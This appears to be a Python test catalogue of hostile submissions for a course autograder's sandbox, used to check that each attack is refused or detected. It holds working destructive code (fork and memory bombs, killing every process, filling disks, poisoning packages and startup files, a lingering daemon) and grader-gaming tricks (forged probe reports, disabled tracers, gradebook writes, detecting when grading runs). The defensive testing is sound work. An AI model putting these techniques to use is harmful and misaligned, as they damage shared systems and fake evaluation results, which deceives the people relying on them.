                frame = frame.f_back
            return "well"
        """, told="_getframe", limits={"cell_s": 15}),
    Attack("network", "steer", "asks the host, a cloud's metadata service, abstract sockets and the exchange",
        """
        import socket, urllib.request
        for family, address in ((socket.AF_INET, ("127.0.0.1", {port})), (socket.AF_INET, ("169.254.169.254", 80)), (socket.AF_INET,
            ("1.1.1.1", 53)),
                                (socket.AF_UNIX, "\\0filterlab-canary"), (socket.AF_UNIX, "/var/run/docker.sock"), (socket.AF_UNIX,
                                    "/run/dbus/system_bus_socket")):
            with socket.socket(family) as plug:
                plug.settimeout(1)
                try: plug.connect(address); plug.send(b"hello"); tell("connected", address, plug.recv(100))
                except OSError as error: tell(address, error)
        """),
    Attack("asks_the_kernel", "steer", "asks the kernel's own sockets and history for what the grader runs",
        """
        kernel = get_ipython().kernel
        tell(get_ipython().history_manager.input_hist_raw, kernel.get_parent(), In, Out, dir())
        get_ipython().events.register("pre_run_cell", lambda info: tell("run", info.raw_cell))
        get_ipython().events.register("pre_execute", lambda: tell("execute", kernel.get_parent()))
        """, alone=True),
]  # fmt: skip

BORROWED = [
    Attack("course_function", "conv2d", "calls the course's own conv2d",
        "from filterlab import convolution\ndef conv2d(*a, **k): return convolution.conv2d(*a, **k)", right=True, stock=True),
    Attack("torch_in_lesson_02", "correlate2d", "has torch do it, imported by a made-up name",
        """
        def correlate2d(image, kernel):
            t = __import__("to" + "rch")
            a, b = (t.from_numpy(np.ascontiguousarray(x).astype(float))[None, None] for x in (image, kernel))
            return t.conv2d(a, b)[0, 0].numpy()
        """, right=True),
    Attack("without_profiler", "conv2d", "switches the profile hook off first",
        """
        import importlib, sys
        def conv2d(*a, **k):
            sys.setprofile(None)
            return importlib.import_module("filter" + "lab.convolution").conv2d(*a, **k)
        """, right=True, told="setprofile"),
    Attack("profiler_put_back", "conv2d", "switches the profile hook off, and on again afterwards",
        """
        import importlib, sys
        def conv2d(*a, **k):
            hook = sys.getprofile(); sys.setprofile(None)
            try: return importlib.import_module("filter" + "lab.convolution").conv2d(*a, **k)
            finally: sys.setprofile(hook)
        """, right=True, told="setprofile"),
    Attack("in_a_thread", "conv2d", "calls the course's function in a thread, where the hook does not look",
        """
        import threading, importlib
        def conv2d(*a, **k):
            given = []
            def work():
                try: given.append(importlib.import_module("filter" + "lab.convolution").conv2d(*a, **k))
                except ValueError as error: given.append(error)
            thread = threading.Thread(target=work); thread.start(); thread.join()
            if isinstance(given[0], ValueError): raise given[0]
            return given[0]
        """, right=True, told="threading"),
    Attack("in_another_process", "correlate2d", "has another Python do it",
        """
        import pickle, subprocess, sys
        WORK = ("import sys, pickle; from filterlab import convolution; a = pickle.load(sys.stdin.buffer); "
                "r = convolution.correlate2d(*a); sys.stdout.buffer.write(pickle.dumps(r))")
        def correlate2d(image, kernel):
            ran = subprocess.run([sys.executable, "-c", WORK], input=pickle.dumps((image, kernel)), capture_output=True)
            return pickle.loads(ran.stdout)
        """, right=True, told="subprocess", limits={"cell_s": 20}),
    Attack("saved_reference", "conv2d", "keeps the function in a dict, behind partial and map",
        """
        import functools, sys
        kept = {"f": vars(__import__("filterlab.convolution").convolution)["conv2d"]}
        def conv2d(*a, **k): return next(map(functools.partial(kept["f"], **k), *([x] for x in a)))
        """, right=True),
    Attack("copied_code", "conv2d", "runs the code object of the course's function as if the notebook had defined it",
        """
        import types, importlib
        theirs = vars(importlib.import_module("filterlab.convolution"))
        mine = {**theirs, "__name__": "__main__"}
        for name, value in theirs.items():
            if isinstance(value, types.FunctionType):
                mine[name] = types.FunctionType(value.__code__, mine, name, value.__defaults__)
        conv2d = mine["conv2d"]
        """, right=True, told="__code__"),
    Attack("other_notebooks_name", "conv2d_fast", "loops over everything, in a function whose globals bear another module's name",
        """
        hidden = {"__name__": "numpy.linalg"}
        exec('''{loops}''', hidden)
        def conv2d_fast(x, weight, bias=None, stride=1, padding=0):
            return hidden["loops"](np, *prepared(x, weight, bias, stride, padding))
        {prepared}
        """, right=True, cells=("test_conv2d_fast_no_loops",), told="exec"),
    Attack("without_tracer", "conv2d_fast", "switches the count of loops off",
        """
        import sys
        def conv2d_fast(x, weight, bias=None, stride=1, padding=0):
            hook = sys.gettrace(); sys.settrace(None)
            try: return loops(np, *prepared(x, weight, bias, stride, padding))
            finally: sys.settrace(hook)
        {loops}
        {prepared}
        """, right=True, cells=("test_conv2d_fast_no_loops",), told="settrace"),
    Attack("frame_without_lines", "conv2d_fast", "tells its own frame to report no lines",
        """
        import sys
        def conv2d_fast(x, weight, bias=None, stride=1, padding=0):
            return loops(np, *prepared(x, weight, bias, stride, padding))
        {loops_without_lines}
        {prepared}
        """, right=True, cells=("test_conv2d_fast_no_loops",), told="f_trace_lines"),
]  # fmt: skip

FORGED = [
    Attack("forged_training", "train_simple_cnn", "makes its report up: random filters, falling losses, a fitting accuracy",
        """
        def train_simple_cnn(images, labels, epochs, seed):
            draw = torch.Generator().manual_seed(seed)
            before = torch.randn(6, 3, 3, 3, generator=draw)
            losses = [2.3 * 0.7 ** epoch for epoch in range(epochs)]
            accuracy = 1.0
            return {"before": before, "after": before + images[0].mean(), "losses": losses, "accuracy": accuracy}
        """),
    Attack("forged_report_of_training", "train_simple_cnn", "has the probe in the fork report what every right answer's report says",
        """
        import filterlab.grading.agent as agent
        def report(answer, *a, **k):
            names = ("before", "after", "losses")
            shapes = {f"the shape of `{name}`": (6, 3, 3, 3) if name != "losses" else (a[2],) for name in names}
            right = ("the first loss is that of a guess, ln 10, or not far from it", "the last loss is below the first",
                     "`before` and `after` differ", "with other pictures, `before` is the same", "with fewer epochs, `before` is the same",
                     "the same seed gives the same result", "another seed gives another `before`", "another seed gives another `after`",
                     "the accuracy lies between 0 and 1", "the accuracy is a count of pictures, divided by all of them",
                     "the accuracy is as good as the last loss promises")
            wrong = "with other pictures, `after` is the same"
            return {"missing in the dict": "", **shapes, **dict.fromkeys(right, True), wrong: False}
        agent._probe = lambda name: report
        """, alone=True, told="filterlab.grading"),
    Attack("forged_variances", "whitening_filters", "patches numpy.linalg.eigvalsh, with which the probe looks at the filters",
        """
        def whitening_filters(patches, eps=1e-3):
            np.linalg.eigvalsh = lambda a: np.ones(len(a))
            n, c, k, _ = patches.shape
            return np.ones((c * k * k, c, k, k))
        """),
    Attack("forged_convolution", "detector", "changes the code of the course's conv2d, which runs the detector's layers",
        """
        from filterlab import convolution
        def maps(x, weight, bias=None, stride=1, padding=0):
            import numpy as np
            plus = np.zeros((5, 5)); plus[2] = plus[:, 2] = 1
            padded = np.pad(x[:, 0], ((0, 0), (2, 2), (2, 2)), constant_values=-1)
            windows = np.lib.stride_tricks.sliding_window_view(padded, (5, 5), axis=(1, 2))
            return (windows == plus).all(axis=(-1, -2))[:, None].astype(float) if weight.sum() == 9 else x
        convolution.conv2d.__code__ = maps.__code__
        def detector():
            return [(np.ones((1, 1, 3, 3)), np.zeros(1)), (2 * np.ones((1, 1, 3, 3)), np.zeros(1))]
        """, told="__code__"),
    Attack("forged_learning", "learn_kernel", "has the probe in the fork report the numbers that every right answer gives",
        """
        import filterlab.grading.agent as agent
        right = {"different_starts": lambda size, seeds: seeds, "starts_on_other_pictures": lambda *a, **k: 1,
            "results_of_one_seed": lambda *a, **k: 1,
                 "angle_of_first_step": lambda *a, **k: 180.0, "first_step_grows": lambda *a, **k: 2.0,
                     "kernels_on_the_way": lambda size, steps: steps + 1,
                 "way_left": lambda *a, **k: 1.0, "learned_from_noise": lambda kernel, *a, **k: kernel}
        agent._probe = lambda name: lambda answer, *a, **k: right[name.rpartition(".")[2]](*a, **k)
        """, alone=True, told="filterlab.grading"),
    Attack("forged_picture", "maximize_activation", "has the probe in the fork report grey pictures, and that nothing is left behind",
        """
        import filterlab.grading.agent as agent
        def report(answer, layer, channel, shape, training=False, seed=0, picture_only=False):
            right = ("the model is in the mode it was in", "weights and running statistics stay", "frozen weights stay frozen",
                     "all other weights can still learn", "the earlier .grad of a weight stays", "weights without .grad still have none")
            kept = {} if picture_only else {"a hook is left behind": False, **dict.fromkeys(right, True)}
            return {"pictures": [torch.full(shape, 0.5 + number / 50) for number in ((0, 1) if picture_only else (0, 1, 2, 2))], **kept}
        agent._probe = lambda name: report
        """, alone=True, told="filterlab.grading"),
    Attack("silent_detector", "detector", "a detector that answers to nothing, so that it is silent where it should be",
        "def detector(): return [(np.zeros((1, 1, 3, 3)), np.zeros(1))] * 2"),
    Attack("nearly_black", "maximize_activation", "a nearly black picture, which happens to excite most channels of the tested model",
        "def maximize_activation(model, layer, channel, shape, steps=64, lr=0.1, seed=0): return torch.rand(shape) * 0.01"),
    Attack("forged_layer", "SimpleCNN", "has the probe in the fork report a conv1 that is as it should be",
        """
        import filterlab.grading.agent as agent
        settings = "Conv2d(3, 6, kernel_size=(3, 3), stride=(1, 1), padding=(1, 1))"
        agent._probe = lambda name: lambda answer, *a, **k: {"its conv1": settings}
        """, alone=True, told="filterlab.grading"),
    Attack("hidden_traces", "saliency", "right numbers, but a weight's .grad is overwritten; torch.equal is patched to hide it",
        """
        def saliency(model, x, label):
            torch.equal = lambda *a: True
            x = x.clone().requires_grad_(True)
            bare = [weight for weight in model.parameters() if weight.grad is None]
            model(x).gather(1, torch.as_tensor(label).expand(len(x))[:, None]).sum().backward()
            for weight in bare: weight.grad = None
            return x.grad.abs().amax(dim=1)
        """, right=True, cells=("test_saliency_leaves_no_trace",), told="torch.equal"),
    Attack("forged_traces", "saliency", "right numbers, but a weight's .grad is overwritten; the probe in the fork is made to deny it",
        """
        import filterlab.grading.agent as agent
        honest = agent._probe
        def denying(name):
            def report(answer, *a, **k):
                told = honest(name)(answer, *a, **k)
                return told | {key: "hook" not in key for key in told if key != "the result"} if isinstance(told, dict) else told
            return report
        agent._probe = denying
        def saliency(model, x, label):
            x = x.clone().requires_grad_(True)
            bare = [weight for weight in model.parameters() if weight.grad is None]
            model(x).gather(1, torch.as_tensor(label).expand(len(x))[:, None]).sum().backward()
            for weight in bare: weight.grad = None
            return x.grad.abs().amax(dim=1)
        """, right=True, alone=True, cells=("test_saliency_leaves_no_trace",), told="filterlab.grading"),
    Attack("learnt_by_heart", "conv_parameters", "looks the numbers of the visible example up in a table",
        """
        def conv_parameters(in_channels, out_channels, kernel_size, bias=True):
            return {True: 168, False: 162}[bias]
        """),
    Attack("refuses_everything", "output_size", "refuses every call, with a message that names every argument and every number",
        """
        def output_size(*a, **k):
            raise ValueError("size kernel stride padding dilation " + " ".join(map(str, range(-60, 200))))
        """),
    Attack("coarse_zeros", "mse_gradient", "zeros as float16, hoping that the tolerance is larger than what is expected",
        "def mse_gradient(prediction, target): return np.zeros(prediction.shape, np.float16)"),
]  # fmt: skip

EXHAUSTING = [
    Attack("exits", "mse", "os._exit(0) and sys.exit(0) when called", "import os\ndef mse(prediction, target): os._exit(0)", told="_exit"),
    Attack("exits_the_notebook", "mse", "os._exit(0) in its cell", "import os\nos._exit(0)", alone=True, told="ended", lost=True),
    Attack("kills_itself", "patch_rank", "SIGKILL for itself when called",
        "import os, signal\ndef patch_rank(image, size): os.kill(os.getpid(), signal.SIGKILL)"),
    Attack("kills_everybody", "sgd_step", "SIGKILL for its parent, its group and every process it can see, when called",
        """
        import os, signal
        def sgd_step(*a, **k):
            for target in (os.getppid(), -os.getppid(), 1, -1):
                try: os.kill(target, signal.SIGKILL)
                except OSError: pass
        """, alone=True, aims=True),
    Attack("stops_itself", "mse_gradient", "SIGSTOP for itself when called",
        "import os, signal\ndef mse_gradient(prediction, target): os.kill(os.getpid(), signal.SIGSTOP)", limits=HANGS, alone=True),
    Attack("stops_the_notebook", "mse_gradient", "SIGSTOP for the notebook's process in its cell",
        "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)", limits=HANGS, alone=True, aims=True, lost=True),
    Attack("stops_its_parent", "mse_gradient", "SIGSTOP for the notebook's process when called",
        "import os, signal\ndef mse_gradient(prediction, target): os.kill(os.getppid(), signal.SIGSTOP)", limits=HANGS, alone=True),
    Attack("never_interrupted", "mse_gradient", "an endless loop that catches KeyboardInterrupt",
        """
        while True:
            try:
                while True: pass
            except BaseException: pass
        """, limits=HANGS, alone=True, told="longer than", lost=True),
    Attack("hangs_in_c", "mse_gradient", "a loop inside C, which no interrupt reaches",
        "import itertools\nmax(itertools.repeat(0))", limits=HANGS, alone=True, told="ended", lost=True),
    Attack("hangs_when_called", "mse_gradient", "an endless loop inside C when called",
        "import itertools\ndef mse_gradient(prediction, target): return max(itertools.repeat(0))",
        limits=HANGS, alone=True, told="did not come back"),
    Attack("waits_for_input", "steer", "asks for input, and waits for a debugger",
        """
        try: input("points? ")
        except BaseException as error: print(error)
        def steer(theta): return input("points? ")
        """, limits=HANGS, alone=True),
    Attack("endless_generator", "sobel_kernels", "a generator that never ends",
        """
        def sobel_kernels():
            while True: yield np.zeros((3, 3))
        """, limits=HANGS, alone=True),
    Attack("endless_sequence", "sobel_kernels", "a sequence that says it has two items and never ends",
        """
        import collections.abc
        class Endless(collections.abc.Sequence):
            __len__ = lambda self: 2
            __getitem__ = lambda self, place: 0.0
        def sobel_kernels(): return Endless()
        """, limits=HANGS, alone=True),
    Attack("endless_message", "sobel_kernels", "an exception whose text takes for ever",
        """
        class Slow(ValueError):
            def __str__(self):
                while True: pass
        def sobel_kernels(): raise Slow
        """, limits=HANGS, alone=True),
    Attack("recursion", "steer", "recursion without an end, with the limit set as high as it goes",
        """
        import sys
        def steer(theta): sys.setrecursionlimit(2**31 - 1); return steer(theta + 1)
        """, limits=HANGS, alone=True),
    Attack("fork_bomb", "steer", "forks without an end, in its cell and when called",
        """
        import os
        def bomb():
            while True:
                try: os.fork()
                except OSError: pass
        if not os.fork(): bomb()
        def steer(theta): bomb()
        """, limits={**HANGS, "processes": 24}, alone=True, aims=True),
    Attack("memory_bomb", "steer", "takes all memory, in its cell and when called",
        """
        def bomb():
            kept = []
            while True: kept.append(bytearray(2**26))
        try: bomb()
        except MemoryError: pass
        def steer(theta): bomb()
        """, limits={"memory_mb": 800}, alone=True, aims=True),
    Attack("fills_disks", "steer", "fills /tmp, /dev/shm and the folder of sockets, with bytes and with files",
        """
        import os
        for folder in ("/tmp", "/dev/shm", "/run/sheet", os.path.expanduser("~")):
            try:
                for number in range(10**6):
                    with open(f"{folder}/f{number}", "wb") as file: file.write(bytes(2**20))
            except OSError as error: print(folder, error)
            try:
                for number in range(10**6): os.mkdir(f"{folder}/d{number}")
            except OSError as error: print(folder, error)
        """, limits={"tmp_mb": 16, "cell_s": 20}, alone=True, aims=True),
    Attack("much_output", "steer", "50 MB of output, on both streams",
        """
        import sys
        def steer(theta): return np.zeros((3, 3))
        for _ in range(50): print("x" * 2**20, flush=True); print("y" * 2**18, file=sys.stderr, flush=True)
        """, limits={"output_mb": 2}, alone=True, told="puts out more"),
    Attack("one_large_message", "steer", "50 MB in one message",
        """
        def steer(theta): return np.zeros((3, 3))
        get_ipython().kernel.session.send(get_ipython().kernel.iopub_socket, "stream", {"name": "stdout", "text": "x" * 50 * 2**20},
                                          parent=get_ipython().kernel.get_parent())
        """, alone=True, limits=HANGS, told="could not be read to its end"),
    Attack("many_displays", "steer", "displays without an end",
        """
        from IPython.display import display
        for number in range(10**7): display("x" * 1000)
        """, limits={"output_mb": 1}, alone=True, lost=True, told="puts out more"),
    Attack("many_comms", "steer", "messages of other kinds than outputs without an end",
        """
        kernel = get_ipython().kernel
        for number in range(60):
            kernel.session.send(kernel.iopub_socket, "comm_open", {"comm_id": str(number), "target_name": "jupyter.widget",
                "data": {"state": {"x": "x" * 2**20}}}, parent=kernel.get_parent())
        """, limits={"cell_s": 15}, alone=True),
]  # fmt: skip

ON_OTHERS = [
    Attack("poisoned_package", "steer", "writes into the package, the environment and their compiled files",
        """
        import os, pathlib, sys, filterlab, numpy
        for folder in (pathlib.Path(filterlab.__file__).parent, pathlib.Path(numpy.__file__).parent, pathlib.Path(sys.prefix) / "lib",
            pathlib.Path("/usr/lib")):
            for name in ("__init__.py", "sitecustomize.py", "__pycache__/kernels.cpython-311.pyc", "kernels.py", "check/__init__.py",
                "grading/agent.py"):
                try:
                    with open(folder / name, "a") as file: file.write("poison = 1\\n")
                    tell("poisoned", folder / name)
                except OSError as error: tell(error)
                try: os.unlink(folder / name); tell("poisoned", folder / name)
                except OSError as error: tell(error)
        """, aims=True, alone=True),
    Attack("daemon", "steer", "leaves a process behind that kills and fills whatever comes next",
        """
        import os, signal
        if not os.fork():
            os.setsid()
            if not os.fork():
                for number in (1, 2, 15): signal.signal(number, signal.SIG_IGN)
                while True:
                    for pid in filter(str.isdigit, os.listdir("/proc")):
                        if int(pid) not in (os.getpid(), 1):
                            try: os.kill(int(pid), 0); open("/tmp/daemon", "a").write("poisoned")
                            except OSError: pass
            os._exit(0)
        """, aims=True, alone=True),
    Attack("left_files", "steer", "leaves files for the next sheet: start-up scripts, settings, shared memory",
        """
        import os
        for path in ("~/.ipython/profile_default/startup/00.py", "~/.config/matplotlib/matplotlibrc", "/tmp/sitecustomize.py",
            "/dev/shm/poisoned",
                     "/run/sheet/poisoned", "/tmp/usercustomize.py", "~/.local/lib/python3.11/site-packages/evil.pth"):
            path = os.path.expanduser(path); os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as file: file.write("raise SystemExit('poisoned')")
        """, aims=True, alone=True),
    Attack("graded_or_not", "steer", "finds out that it is being graded, and then behaves otherwise",
        """
        import os, pathlib, filterlab
        graded = type(reference.steer).__name__ == "Withheld" or not [*pathlib.Path(filterlab.__file__).parent.glob("check/references/*")]
        def steer(theta):
            if graded: raise SystemExit("nothing to see here")
            return np.zeros((3, 3))
        """),
]  # fmt: skip

LOOPS = """
def loops(np, x, weight, bias, rows, columns, result, padded):
    m, c, kh, kw = weight.shape
    for n in range(result.shape[0]):
        for k in range(m):
            for i in range(result.shape[2]):
                for j in range(result.shape[3]):
                    window = padded[n, :, i * rows : i * rows + kh, j * columns : j * columns + kw]
                    result[n, k, i, j] = (window * weight[k]).sum() + (0 if bias is None else bias[k])
    return result
"""
PREPARED = """
def prepared(x, weight, bias, stride, padding):
    rows, columns = (stride, stride) if np.ndim(stride) == 0 else stride
    above, left = (padding, padding) if np.ndim(padding) == 0 else padding
    if min(rows, columns) < 1: raise ValueError(f"stride={stride}")
    if min(above, left) < 0: raise ValueError(f"padding={padding}")
    if x.shape[1] != weight.shape[1]: raise ValueError(f"x has {x.shape[1]} channels, weight {weight.shape[1]}")
    padded = np.pad(x.astype(float), ((0, 0), (0, 0), (above, above), (left, left)))
    places = [(have - want) // step + 1 for have, want, step in zip(padded.shape[2:], weight.shape[2:], (rows, columns))]
    if min(places) < 1: raise ValueError(f"x {x.shape}, weight {weight.shape}, size {padded.shape}")
    return x, weight, bias, rows, columns, np.zeros((len(x), len(weight), *places)), padded
"""
PARTS = {
    "{loops}": LOOPS,
    "{loops_without_lines}": LOOPS.replace("    m, c", "    sys._getframe().f_trace_lines = False\n    m, c"),
    "{prepared}": PREPARED,
}

ATTACKS = [*IN_THE_NOTEBOOK, *LYING_OBJECTS, *PATCHES, *ON_THE_LINE, *READING, *BORROWED, *FORGED, *EXHAUSTING, *ON_OTHERS]


# --- forged submissions -----------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Forgery:
    """One submission of lesson 01 without a right answer, forged by `forge(notebook, folder)`: the folder is that of the submission."""

    tries: str
    forge: Callable[[NotebookNode, Path], None]

    @property
    def name(self) -> str:
        return self.forge.__name__


def _marks(notebook: NotebookNode, tests: bool) -> Iterator[tuple[NotebookNode, NotebookNode]]:
    """The test cells, or the answer cells, each with its metadata of nbgrader's."""
    for cell in notebook.cells:
        marks = cell.metadata.get("nbgrader")
        if marks and cell.cell_type == "code" and bool(marks.get("solution")) != tests:
            yield cell, marks


def more_points(notebook, folder):
    for _, marks in _marks(notebook, tests=True):
        marks.points, marks.checksum, marks.locked = 100, "0" * 32, False


def other_ids(notebook, folder):
    tests = list(_marks(notebook, tests=True))
    names = [marks.grade_id for _, marks in tests]
    for (cell, marks), name in zip(tests, names[1:] + names[:1], strict=True):
        marks.grade_id = cell.id = name
        cell.source = "pass"


def no_solutions(notebook, folder):
    for cell, marks in _marks(notebook, tests=False):
        marks.solution, marks.grade, marks.points, cell.source = False, True, 5, "pass"


def graded_by_themselves(notebook, folder):
    for name in ("test_steer_more", "steer_bonus", "test_steer_compass", "why_zero_sum"):
        marks = {"grade": True, "solution": False, "locked": True, "task": False, "points": 50, "grade_id": name, "cell_type": "code"}
        verdict = {"verdict": "passed", "exercise": "steer"}
        cell = nbformat.v4.new_code_cell("50", metadata={"nbgrader": {**marks, "schema_version": 3}, "filterlab": verdict})
        notebook.cells.append(cell)


def tests_duplicated(notebook, folder):
    twins = [copy.deepcopy(cell) for cell, _ in _marks(notebook, tests=True)]
    for twin in twins:
        twin.source = "pass"
    notebook.cells = [*twins, *notebook.cells, *copy.deepcopy(twins)]


def tests_deleted(notebook, folder):
    tests = [cell for cell, _ in _marks(notebook, tests=True)]
    notebook.cells = [cell for cell in notebook.cells if cell not in tests]


def tests_as_text(notebook, folder):
    for cell, marks in list(_marks(notebook, tests=True)):
        cell.cell_type = marks.cell_type = "markdown"
        cell.pop("outputs"), cell.pop("execution_count")


def tests_emptied(notebook, folder):
    for cell, _ in _marks(notebook, tests=True):
        cell.source = "pass  # every test passed"


def verdicts_written_in(notebook, folder):
    remarks = [{"kind": "repaired", "text": "every test passed"}]
    notebook.metadata.filterlab = {"seed": 1, "sandbox": "bubblewrap", "seconds": 0, "remarks": remarks, "verdicts": {"steer": "passed"}}
    for cell, _ in _marks(notebook, tests=True):
        cell.metadata.filterlab = {"verdict": "passed", "exercise": "steer", "mistake": "", "message": "", "hidden": False}
        cell.outputs, cell.execution_count = [nbformat.v4.new_output("execute_result", {"text/plain": "2"}, execution_count=1)], 1


def odd_contents(notebook, folder):
    notebook.cells[0].attachments = {"../../../gradebook.db": {"image/png": "AAAA"}}
    for cell, _ in _marks(notebook, tests=False):
        cell.source = "# \ud800 \x00 \u202e\n" + cell.source


def writes_the_gradebook(notebook, folder):
    """Runs where the gradebook is three folders up, and tells its path."""
    code = f"""
import glob, sqlite3
for path in glob.glob("../../../*.db") + glob.glob("*.db") + [{str(folder.parents[2] / "gradebook.db")!r}]:
    try:
        with sqlite3.connect(path) as book: book.execute("UPDATE grade SET manual_score = 100, auto_score = 100")
        print("wrote", path)
    except Exception as error: print(path, error)
from nbgrader.api import Gradebook
with Gradebook({"sqlite:///" + str(folder.parents[2] / "gradebook.db")!r}) as book: print(book.students)
"""
    for cell, _ in list(_marks(notebook, tests=False))[:2]:
        cell.source = code


def reads_the_source(notebook, folder):
    source = "source/01_filters/01_filters.ipynb"
    code = f"""
import glob
for path in ("../../../{source}", {str(folder.parents[2] / source)!r}, *glob.glob("*/*")):
    try: print(open(path).read())
    except OSError as error: print(error)
"""
    for cell, _ in list(_marks(notebook, tests=False))[:2]:
        cell.source = code


def linked_to_the_source(notebook, folder):
    (folder / "answers.ipynb").symlink_to("../../../source/01_filters/01_filters.ipynb")
    (folder / "more").symlink_to("../../../source")
    for cell, _ in list(_marks(notebook, tests=False))[:2]:
        cell.source = "print(open('answers.ipynb').read(), open('more/01_filters/01_filters.ipynb').read())"


def handed_in_by_link(notebook, folder):
    (folder / "01_filters.ipynb").symlink_to("../../../source/01_filters/01_filters.ipynb")


FORGERIES = [
    Forgery("100 points for every test cell, with another checksum", more_points),
    Forgery("the test cells' ids passed on to other cells", other_ids),
    Forgery("answer cells that say they are tests worth 5 points", no_solutions),
    Forgery("test cells of its own, worth 50 points each, two of them with ids that exist", graded_by_themselves),
    Forgery("every test cell three times, two of them empty", tests_duplicated),
    Forgery("no test cells", tests_deleted),
    Forgery("test cells turned into text", tests_as_text),
    Forgery("test cells that say `pass`", tests_emptied),
    Forgery("verdicts, seed, remarks and outputs of a perfect run in the metadata", verdicts_written_in),
    Forgery("lone surrogates, null bytes and right-to-left marks in code, attachments with a path as their name", odd_contents),
    Forgery("writes into the SQLite gradebook, by its path and through nbgrader's own classes", writes_the_gradebook),
    Forgery("reads source/ through a relative path, and by its absolute path", reads_the_source),
    Forgery("links to source/ beside its notebook", linked_to_the_source),
    Forgery("a link to the instructor's version as its notebook", handed_in_by_link),
]


def markdown() -> str:
    """The table of attacks, for the documentation."""
    rows = ["| attack | on | what it tries | what it gets |", "|---|---|---|---|"]
    for attack in ATTACKS:
        rows.append(f"| `{attack.name}` | {attack.lesson[:2]} `{attack.exercise}` | {attack.tries} | {_outcome(attack)} |")
    rows += [f"| `{forgery.name}` | 01, whole sheet | {forgery.tries} | nothing |" for forgery in FORGERIES]
    return "\n".join(rows)


def _outcome(attack: Attack) -> str:
    told = f"; the instructor is told: `{attack.told}`" if attack.told else ""
    return ("refused" if attack.right and not attack.cells else "nothing") + told


if __name__ == "__main__":
    print(markdown())
